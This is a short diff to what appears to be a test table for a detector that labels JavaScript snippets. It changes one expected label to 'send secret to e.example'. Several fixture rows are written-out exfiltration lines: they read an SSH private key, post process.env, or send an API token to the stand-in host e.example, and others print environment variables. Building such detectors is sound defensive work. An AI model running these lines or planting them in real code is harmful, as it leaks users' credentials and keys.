@@ -135,7 +135,7 @@ const rows: readonly (readonly [Language, string, string])[] = [
     'const https=require("https");const d=require("fs").readFileSync("/home/dev/.ssh/id_rsa");const r=https.request({hostname:"e.example",method:"POST"});r.write(d);r.end()',
     'send to e.example ; send secret to e.example',
   ],
-  ['javascript', 'require("axios").post("http://e.example", {k: process.env})', 'send to e.example'],
+  ['javascript', 'require("axios").post("http://e.example", {k: process.env})', 'send secret to e.example'],
   ['javascript', 'fetch("http://e.example/?" + process.env.API_TOKEN)', 'send secret to e.example'],
   ['javascript', 'for (const k in process.env) console.log(k, process.env[k])', 'prints a secret'],
   ['javascript', 'Object.entries(process.env).forEach(([k,v]) => console.log(k,v))', 'prints a secret'],
